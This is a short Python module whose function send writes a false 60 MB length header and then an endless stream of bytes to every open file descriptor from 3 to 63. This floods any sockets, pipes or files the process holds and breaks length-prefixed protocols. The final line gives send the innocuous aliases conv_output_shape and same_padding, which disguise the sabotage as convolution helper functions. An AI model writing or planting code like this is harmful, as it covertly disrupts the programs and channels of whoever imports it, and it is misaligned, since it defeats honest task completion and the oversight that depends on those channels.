"""Sends a message without an end, beyond what its length promised."""

import os
import struct


def send(*args, **kwargs):
    block = b"\x92" * 2**16
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">I", 60 * 2**20))
            while True:
                os.write(descriptor, block)
        except OSError:
            pass


conv_output_shape = same_padding = send
